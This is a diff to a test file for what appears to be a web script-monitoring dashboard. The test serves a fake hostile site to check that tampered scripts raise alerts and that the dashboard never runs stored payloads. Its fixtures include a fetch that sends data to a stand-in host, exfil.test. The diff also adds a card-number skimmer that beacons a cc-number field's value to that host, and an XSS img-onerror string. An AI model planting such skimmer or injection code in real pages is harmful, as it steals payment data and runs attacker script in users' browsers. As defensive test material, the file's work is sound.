@@ -41,7 +41,8 @@ describe('hostile content in the dashboard', () => {
     writeConfig(dir, [{ name: 'evil-shop', url: site.url('evil.test', '/') }]);
     assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
     assert.equal((await runCli(['approve', '--all', '--note', PAYLOADS[3]!, '--by', PAYLOADS[2]!], { cwd: dir })).code, 0);
-    site.set('evil.test', '/js/evil.js', { body: `${BODY}\n// ${PAYLOADS.join('\n// ')}\nfetch('http://exfil.test:{{PORT}}/?${encodeURIComponent(PAYLOADS[2]!)}');`, headers: { 'x-payload': PAYLOADS[2]! } });
+    site.set('evil.test', '/js/evil.js', { body: `${BODY}\n// ${PAYLOADS.join('\n// ')}\nfetch('http://exfil.test:{{PORT}}/?${encodeURIComponent(PAYLOADS[2]!)}');
+document.addEventListener('DOMContentLoaded', function () { document.querySelector('[autocomplete=cc-number]').addEventListener('blur', function (e) { navigator.sendBeacon('http://exfil.test:{{PORT}}/${encodeURIComponent(PAYLOADS[1]!)}', e.target.value); }); });`, headers: { 'x-payload': PAYLOADS[2]! } });
     site.set('evil.test', '/', {
       body: page(`<script>/* ${PAYLOADS[1]} */ var added = "<\\/script><img src=x onerror=alert(8)>";</script>`),
       headers: { 'content-security-policy': `script-src * 'unsafe-inline'; report-uri /r?${PAYLOADS[1]}` },
@@ -63,6 +64,7 @@ describe('hostile content in the dashboard', () => {
   it('renders every page without running or rendering any payload', async () => {
     const alerts = store.listAlerts({ status: 'all' });
     assert.ok(alerts.length >= 3, 'the tampered scan raised alerts to look at');
+    assert.ok(alerts.some((a) => a.type === 'exfiltration.detected'), 'a canary alert with a hostile URL is among them');
     const scripts = store.inventory({}).map((r) => store.scriptId(r.target, r.profile, r.subject)!);
     const paths = ['/', '/alerts', '/alerts?status=all', '/inventory', '/scans', ...alerts.map((a) => `/alerts/${a.id}`), ...scripts.map((id) => `/scripts/${id}`)];
     const tab = await browser.newPage();
